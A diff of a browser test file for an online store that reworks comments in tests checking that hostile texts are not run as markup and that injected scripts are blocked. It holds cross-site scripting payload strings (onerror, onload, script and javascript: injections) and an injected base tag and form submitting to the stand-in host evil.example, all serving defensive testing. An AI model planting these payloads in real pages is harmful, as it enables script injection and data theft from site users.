@@ -5,7 +5,7 @@ import { addProduct, loginSeller, sendOut, visitorTest as test } from './seller-
 import type { StoreProcess } from './store-process.ts'
 import { expect, pageReady, SELLER_TOKEN, SHOPPER_TOKEN } from './test.ts'
 
-// Each calls `struck` if a page treats it as more than text.
+// Each of these texts calls `struck` when a page treats it as more than text.
 const IMG = '<img src=x onerror=struck()>'
 const SCRIPT = '</script><script>struck()</script>'
 const LINE = `"'><svg onload=struck()><a href="javascript:struck()">x</a>{{struck()}}\u202e\u2067\u0001\u007f`
@@ -30,7 +30,6 @@ const ADDRESS = {
   country: SCRIPT,
 }
 
-/** Fills the store with one product, one shopper and one order, all with hostile texts. */
 async function fillStore(store: StoreProcess) {
   const seller = await loginSeller(store)
   const post = async (path: string, body: unknown, token = '') => {
@@ -47,7 +46,7 @@ async function fillStore(store: StoreProcess) {
   return { product, order: placed.order, shopper: token, seller }
 }
 
-/** Markup in the page that could run because a text was taken for markup. */
+/** Returns markup in the page that could run because a text was taken for markup. */
 const activeMarkup = (page: Page) =>
   page.evaluate(() => {
     const handlers = [...document.querySelectorAll('*')].flatMap((element) =>
@@ -159,7 +158,8 @@ test.describe('script injected into a page', () => {
       insert('<base href="https://evil.example/">')
       insert('<form id="form" action="https://evil.example/"></form>')
       document.querySelector<HTMLFormElement>('#form')?.submit()
-      setTimeout('struck()') // a string as code, after this function, since evaluate() itself may use eval
+      // A string is run as code after this function, since evaluate() itself may use eval.
+      setTimeout('struck()')
       await new Promise((resolve) => setTimeout(resolve, 500)) // the browser sends reports when it is idle
       return directives
     })
